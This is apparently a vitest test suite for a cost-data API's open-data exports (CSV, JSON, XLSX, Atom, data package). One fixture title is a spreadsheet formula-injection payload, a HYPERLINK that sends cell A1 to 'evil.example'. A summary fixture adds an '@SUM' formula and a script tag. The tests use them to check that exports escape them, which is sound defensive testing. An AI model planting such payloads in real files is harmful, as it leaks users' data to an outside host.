import { convertPriceYear } from '@costed/costing';
import { CASE_STUDY_COLUMNS, COST_COLUMNS } from '@costed/exports';
import type { CaseStudy } from '@costed/schema';
import { parse } from 'csv-parse/sync';
import readXlsxFile from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readPublishedPages } from '../src/services/open-data.ts';
import { createTestApp, ORGS, type TestApp } from './helpers.ts';

const HOSTILE_SLUG = 'hostile-formula-title';
const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
const WITHDRAWN_SLUG = 'withdrawn-from-open-data';
const DRAFT_SLUG = 'draft-not-in-open-data';

const EXPORT_URLS = [
  '/v1/exports/case-studies.csv',
  '/v1/exports/costs.csv',
  '/v1/exports/savings.csv',
  '/v1/exports/outcomes.csv',
  '/v1/exports/sources.csv',
  '/v1/exports/case-studies.json',
  '/v1/exports/case-studies.jsonl',
  '/v1/exports/case-studies.xlsx',
  '/v1/exports/datapackage.json',
  '/v1/feed.atom',
] as const;

type CsvRecord = Record<string, string>;

function csvRecords(body: string): CsvRecord[] {
  return parse(body, { columns: true }) as CsvRecord[];
}

function csvHeader(body: string): string[] {
  return (parse(body, { to_line: 1 }) as string[][])[0] ?? [];
}

describe('open-data exports', () => {
  let t: TestApp;
  let published: string[];
  const publicUrl = 'https://api.costed.example';
  const siteUrl = 'https://costed.example';

  beforeAll(async () => {
    t = await createTestApp({ config: { publicUrl, siteUrl } });
    const base = (await t.store.caseStudies.get('east-riding-early-help-shift'))?.document;
    if (!base) throw new Error('the seed case study east-riding-early-help-shift is missing');
    const variant = (slug: string, title: string, status: CaseStudy['status']): CaseStudy => ({
      ...base,
      slug,
      title,
      status,
    });
    await t.store.caseStudies.save({
      document: {
        ...variant(HOSTILE_SLUG, HOSTILE_TITLE, 'published'),
        summary: '@SUM(1+1) then <script>alert(1)</script> & an ampersand, all as plain text.',
      },
      actor: 'test',
    });
    await t.store.caseStudies.save({
      document: variant(WITHDRAWN_SLUG, 'Withdrawn: must never appear in open data', 'published'),
      actor: 'test',
    });
    await t.store.caseStudies.setStatus(WITHDRAWN_SLUG, 'withdrawn', 'test');
    await t.store.caseStudies.save({
      document: variant(DRAFT_SLUG, 'Draft: must never appear in open data', 'draft'),
      actor: 'test',
    });
    published = (await t.store.caseStudies.list({ status: 'published' })).map((r) => r.slug);
  }, 120_000);
  afterAll(async () => t?.close());

  it('streams the case_studies table as an attachment, one row per published case study', async () => {
    const res = await t.app.inject('/v1/exports/case-studies.csv');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="case-studies.csv"');
    expect(res.headers['cache-control']).toBe('public, max-age=60');
    expect(res.headers.etag).toMatch(/^W\/".+"$/);
    // Streamed: no length known up front.
    expect(res.headers['transfer-encoding']).toBe('chunked');
    expect(csvHeader(res.body)).toEqual(CASE_STUDY_COLUMNS.map((c) => c.name));
    const rows = csvRecords(res.body);
    expect(rows.map((r) => r.slug)).toEqual(published);
    expect(rows.every((r) => r.status === 'published')).toBe(true);
    const eastRiding = rows.find((r) => r.slug === 'east-riding-early-help-shift');
    expect(eastRiding?.council_names).toBe('East Riding of Yorkshire');
    expect(eastRiding?.url).toBe(`${siteUrl}/case-studies/east-riding-early-help-shift`);
    expect(res.body).toContain('\r\n');
  });

  it('escapes a formula-like title in the CSV the client receives, and keeps it exactly in JSON', async () => {
    const csv = csvRecords((await t.app.inject('/v1/exports/case-studies.csv')).body);
    const hostile = csv.find((r) => r.slug === HOSTILE_SLUG);
    expect(hostile?.title).toBe(`'${HOSTILE_TITLE}`);
    expect(hostile?.summary?.startsWith("'@SUM(1+1)")).toBe(true);
    const json = (await t.app.inject('/v1/exports/case-studies.json')).json() as CaseStudy[];
    expect(json.find((c) => c.slug === HOSTILE_SLUG)?.title).toBe(HOSTILE_TITLE);
  });

  it('leaves withdrawn and draft case studies out of every format', async () => {
    for (const url of EXPORT_URLS) {
      const res = await t.app.inject(url);
      expect(res.statusCode, url).toBe(200);
      if (url.endsWith('.xlsx')) continue; // compressed; checked by reading the workbook below
      expect(res.body, url).not.toContain(WITHDRAWN_SLUG);
      expect(res.body, url).not.toContain(DRAFT_SLUG);
    }
    const sheets = await readXlsxFile((await t.app.inject('/v1/exports/case-studies.xlsx')).rawPayload);
    const slugs = sheets
      .find((s) => s.sheet === 'case_studies')
      ?.data.slice(1)
      .map((row) => row[0]);
    expect(slugs).toEqual(published);
  });

  it('exports each child table; a not-reported cost has empty amounts and a reason, never 0', async () => {
    for (const table of ['costs', 'savings', 'outcomes', 'sources']) {
      const res = await t.app.inject(`/v1/exports/${table}.csv`);
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-disposition']).toBe(`attachment; filename="${table}.csv"`);
      const rows = csvRecords(res.body);
      expect(rows.length).toBeGreaterThan(0);
      expect(rows.every((r) => published.includes(r.slug ?? ''))).toBe(true);
    }
    const costs = csvRecords((await t.app.inject('/v1/exports/costs.csv')).body);
    const notReported = costs.find(
      (r) => r.slug === 'east-riding-early-help-shift' && r.label?.startsWith('Intensive early help'),
    );
    expect(notReported).toMatchObject({
      amount_pence: '',
      amount_gbp: '',
      price_year: '',
      converted_pence: '',
    });
    expect(notReported?.not_reported_reason).toMatch(/gives no amount/);
    expect(costs.filter((r) => r.not_reported_reason === '').every((r) => r.amount_pence !== '')).toBe(true);
  });

  it('answers an unknown table with a 404 problem naming the tables that exist', async () => {
    const res = await t.app.inject('/v1/exports/people.csv');
    expect(res.statusCode).toBe(404);
    expect(res.headers['content-type']).toContain('application/problem+json');
    expect(res.json()).toMatchObject({ code: 'not-found', status: 404 });
    expect(res.json().detail).toContain('costs.csv');
    expect((await t.app.inject('/v1/exports/case_studies.csv')).statusCode).toBe(404);
  });

  it('adds amounts converted to ?priceYear with the deflator release recorded', async () => {
    const res = await t.app.inject('/v1/exports/costs.csv?priceYear=2024-25');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toBe('attachment; filename="costs-2024-25.csv"');
    const { deflators } = await t.services.reference.get();
    const fy = deflators.find((s) => s.kind === 'financial');
    const rows = csvRecords(res.body);
    const reported = rows.filter((r) => r.amount_pence !== '' && r.price_year?.includes('-'));
    expect(reported.length).toBeGreaterThan(0);
    for (const row of reported) {
      const expected = convertPriceYear(
        { pence: Number(row.amount_pence), priceYear: row.price_year ?? '' },
        '2024-25',
        deflators,
      );
      expect(Number(row.converted_pence)).toBe(expected.money.pence);
      expect(row.converted_price_year).toBe('2024-25');
      expect(row.deflator_release).toBe(fy?.release);
    }
    // Without ?priceYear the converted columns are present but empty.
    const plain = csvRecords((await t.app.inject('/v1/exports/costs.csv')).body);
    expect(plain.every((r) => r.converted_pence === '' && r.deflator_release === '')).toBe(true);
  });

  it('refuses a malformed or out-of-series priceYear with a 400 naming querystring.priceYear', async () => {
    for (const url of [
      '/v1/exports/costs.csv?priceYear=2024-26',
      '/v1/exports/costs.csv?priceYear=next-year',
      '/v1/exports/costs.csv?priceYear=1900-01',
      '/v1/exports/case-studies.xlsx?priceYear=2099-00',
      '/v1/exports/savings.csv?priceYear=1800',
    ]) {
      const res = await t.app.inject(url);
      expect(res.statusCode, url).toBe(400);
      expect(res.headers['content-type']).toContain('application/problem+json');
      expect(res.json().code).toBe('validation-failed');
      expect(res.json().errors.map((e: { path: string }) => e.path)).toEqual(['querystring.priceYear']);
    }
    const outOfSeries = (await t.app.inject('/v1/exports/costs.csv?priceYear=1900-01')).json();
    expect(outOfSeries.errors[0].code).toBe('price-year-out-of-series');
    expect(outOfSeries.detail).toContain('1955-56 to');
  });

  it('serves the published documents as a JSON array and as JSON Lines', async () => {
    const json = await t.app.inject('/v1/exports/case-studies.json');
    expect(json.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(json.headers['content-disposition']).toBe('attachment; filename="case-studies.json"');
    const docs = json.json() as CaseStudy[];
    expect(docs.map((d) => d.slug)).toEqual(published);
    const stored = await t.store.caseStudies.get('east-riding-early-help-shift');
    expect(docs.find((d) => d.slug === 'east-riding-early-help-shift')).toEqual(stored?.document);
    // "Not reported" stays the object it is, never a zero.
    expect(JSON.stringify(docs)).toContain('"notReported":true');

    const jsonl = await t.app.inject('/v1/exports/case-studies.jsonl');
    expect(jsonl.headers['content-type']).toBe('application/jsonl; charset=utf-8');
    const lines = jsonl.body.split('\n');
    expect(lines.at(-1)).toBe('');
    expect(lines.slice(0, -1).map((l) => (JSON.parse(l) as CaseStudy).slug)).toEqual(published);
  });

  it('builds an XLSX with a README sheet and every table, once per content version', async () => {
    const res = await t.app.inject('/v1/exports/case-studies.xlsx');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(res.headers['content-disposition']).toBe('attachment; filename="costed-case-studies.xlsx"');
    const sheets = await readXlsxFile(res.rawPayload);
    expect(sheets.map((s) => s.sheet)).toEqual([
      'README',
      'case_studies',
      'costs',
      'savings',
      'outcomes',
      'sources',
    ]);
    const readme = sheets[0]?.data.map((row) => row.filter((c) => c !== null).join(' | ')) ?? [];
    expect(readme).toContain('Licence | CC-BY-4.0 (https://creativecommons.org/licenses/by/4.0/)');
    expect(readme.some((line) => /^Generated at \| \d{4}-\d{2}-\d{2}T/.test(line))).toBe(true);
    const { deflators } = await t.services.reference.get();
    expect(readme.some((line) => deflators.every((s) => line.includes(s.release)))).toBe(true);
    // Text is a string cell, never a formula: the hostile title is kept exactly.
    const titles = sheets[1]?.data.map((row) => row[1]);
    expect(titles).toContain(HOSTILE_TITLE);
    const costs = sheets[2]?.data ?? [];
    expect(costs[0]).toEqual(COST_COLUMNS.map((c) => c.name));

    // The second download is the cached workbook: byte for byte (same generation time).
    const again = await t.app.inject('/v1/exports/case-studies.xlsx');
    expect(Buffer.compare(again.rawPayload, res.rawPayload)).toBe(0);

    const converted = await t.app.inject('/v1/exports/case-studies.xlsx?priceYear=2024-25');
    expect(converted.headers['content-disposition']).toBe(
      'attachment; filename="costed-case-studies-2024-25.xlsx"',
    );
    expect(converted.headers.etag).not.toBe(res.headers.etag);
    const [convertedReadme] = await readXlsxFile(converted.rawPayload);
    const lines = convertedReadme?.data.map((row) => row.filter((c) => c !== null).join(' | ')) ?? [];
    expect(lines).toContain('Price year | 2024-25');
    const fy = deflators.find((s) => s.kind === 'financial');
    expect(lines.some((l) => l.startsWith('Method |') && l.includes(fy?.release ?? '?'))).toBe(true);
  });

  it('describes the CSVs in a Frictionless data package whose fields equal the CSV headers', async () => {
    const res = await t.app.inject('/v1/exports/datapackage.json');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/json; charset=utf-8');
    const pkg = res.json();
    expect(pkg.$schema).toBe('https://datapackage.org/profiles/2.0/datapackage.json');
    expect(pkg.licenses[0].name).toBe('CC-BY-4.0');
    expect(pkg.resources.map((r: { name: string }) => r.name)).toEqual([
      'case_studies',
      'costs',
      'savings',
      'outcomes',
      'sources',
    ]);
    for (const resource of pkg.resources as { path: string; schema: { fields: { name: string }[] } }[]) {
      expect(resource.path.startsWith(`${publicUrl}/v1/exports/`)).toBe(true);
      const csv = await t.app.inject(resource.path.slice(publicUrl.length));
      expect(csv.statusCode).toBe(200);
      expect(csvHeader(csv.body)).toEqual(resource.schema.fields.map((f) => f.name));
    }
  });

  it('publishes an Atom feed of published case studies, newest first, with text escaped', async () => {
    const res = await t.app.inject('/v1/feed.atom');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/atom+xml; charset=utf-8');
    const body = res.body;
    expect(body).toContain(`<id>${publicUrl}/v1/feed.atom</id>`);
    const entries = [...body.matchAll(/<entry>([\s\S]*?)<\/entry>/g)].map((m) => m[1] ?? '');
    expect(entries).toHaveLength(published.length);
    const updated = entries.map((e) => /<updated>([^<]+)<\/updated>/.exec(e)?.[1] ?? '');
    expect([...updated].sort().reverse()).toEqual(updated);
    // The last case study published in this test is the newest entry.
    expect(entries[0]).toContain(`${siteUrl}/case-studies/${HOSTILE_SLUG}`);
    expect(body).toContain('&lt;script&gt;alert(1)&lt;/script&gt; &amp; an ampersand');
    expect(body).not.toContain('<script>');
  });

  it('documents every export in OpenAPI with its media type', async () => {
    const spec = (await t.app.inject('/openapi.json')).json();
    const media = (path: string) => Object.keys(spec.paths[path]?.get?.responses?.['200']?.content ?? {});
    expect(media('/v1/exports/{table}.csv')).toEqual(['text/csv']);
    expect(media('/v1/exports/case-studies.xlsx')).toEqual([
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    ]);
    expect(media('/v1/exports/case-studies.jsonl')).toEqual(['application/jsonl']);
    expect(media('/v1/feed.atom')).toEqual(['application/atom+xml']);
    expect(media('/v1/exports/datapackage.json')).toEqual(['application/json']);
    expect(media('/v1/exports/case-studies.json')).toEqual(['application/json']);
  });

  it('gives every role the same public export, whoever asks', async () => {
    const callers: [string, Record<string, string>][] = [
      ['public', {}],
      ['council member (East Riding)', { cookie: (await t.signIn('council-member')).cookie }],
      [
        'council member (another council)',
        { cookie: (await t.signIn('council-member', ORGS.suffolk.id)).cookie },
      ],
      ['curator', { cookie: (await t.signIn('curator')).cookie }],
      ['admin', { cookie: (await t.signIn('admin')).cookie }],
    ];
    for (const url of EXPORT_URLS) {
      const bodies = new Set<string>();
      for (const [who, headers] of callers) {
        const res = await t.app.inject({ url, headers });
        expect(res.statusCode, `${who} ${url}`).toBe(200);
        bodies.add(res.rawPayload.toString('base64'));
      }
      expect(bodies.size, url).toBe(1);
    }
  });

  it('reads published case studies in keyset pages without repeats or gaps', async () => {
    const pages: string[][] = [];
    for await (const page of readPublishedPages(t.store, 3)) pages.push(page.map((r) => r.slug));
    expect(pages.length).toBe(Math.ceil(published.length / 3));
    expect(pages.every((p) => p.length <= 3)).toBe(true);
    expect(pages.flat()).toEqual(published);
  });

  // Last: it publishes a change, so every export's content moves on.
  it('answers If-None-Match with 304 until the published content changes', async () => {
    for (const url of EXPORT_URLS) {
      const first = await t.app.inject(url);
      const etag = String(first.headers.etag);
      const cached = await t.app.inject({ url, headers: { 'if-none-match': etag } });
      expect(cached.statusCode, url).toBe(304);
      expect(cached.body, url).toBe('');
      expect(cached.headers.etag).toBe(etag);
      expect(cached.headers['cache-control']).toBe('public, max-age=60');
      const listed = await t.app.inject({ url, headers: { 'if-none-match': `W/"other", ${etag}` } });
      expect(listed.statusCode, url).toBe(304);
      const other = await t.app.inject({ url, headers: { 'if-none-match': 'W/"something-else"' } });
      expect(other.statusCode, url).toBe(200);
    }
    const before = await t.app.inject('/v1/exports/costs.csv');
    const convertedEtag = (await t.app.inject('/v1/exports/costs.csv?priceYear=2024-25')).headers.etag;
    expect(convertedEtag).not.toBe(before.headers.etag);

    await t.store.caseStudies.setStatus(HOSTILE_SLUG, 'withdrawn', 'test');
    const after = await t.app.inject({
      url: '/v1/exports/costs.csv',
      headers: { 'if-none-match': String(before.headers.etag) },
    });
    expect(after.statusCode).toBe(200);
    expect(after.headers.etag).not.toBe(before.headers.etag);
    const feed = await t.app.inject('/v1/feed.atom');
    expect(feed.body).not.toContain(HOSTILE_SLUG);
    const sheets = await readXlsxFile((await t.app.inject('/v1/exports/case-studies.xlsx')).rawPayload);
    expect(sheets[1]?.data.map((row) => row[0])).not.toContain(HOSTILE_SLUG);
  });
});
